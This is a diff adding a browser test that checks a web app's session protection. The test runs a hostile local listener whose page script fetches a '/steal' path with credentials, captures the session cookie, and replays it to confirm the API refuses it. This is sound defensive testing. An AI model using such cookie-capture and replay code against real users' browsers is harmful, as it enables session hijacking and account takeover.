@@ -65,3 +65,26 @@ test('a DNS-rebound host name is refused on every path', async () => {
     await browser.close();
   }
 });
+
+test('a program on another loopback port that receives our cookie still cannot use the API', async ({ page }) => {
+  // Cookies are not isolated by port: a hostile local listener that gets the browser onto its
+  // own port receives the session cookie. It must not be enough.
+  let stolen = '';
+  const listener = createServer((req, res) => {
+    if (req.url === '/steal') stolen = req.headers.cookie ?? '';
+    res.setHeader('content-type', 'text/html');
+    res.end(req.url === '/steal' ? 'ok' : `<script>fetch('/steal', { credentials: 'include' })</script>`);
+  });
+  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+  try {
+    await signIn(page);
+    await page.goto(`http://127.0.0.1:${(listener.address() as AddressInfo).port}/`);
+    await expect.poll(() => stolen).toContain('sts_workshop_session=');
+    const response = await fetch(`${BASE}/api/session`, { headers: { cookie: stolen } });
+    expect(response.status).toBe(401);
+    const run = await fetch(RUN, { method: 'POST', headers: { cookie: stolen, 'content-type': 'application/json', origin: BASE }, body: '{}' });
+    expect(run.status).toBe(401);
+  } finally {
+    await new Promise<void>((resolve) => listener.close(() => resolve()));
+  }
+});
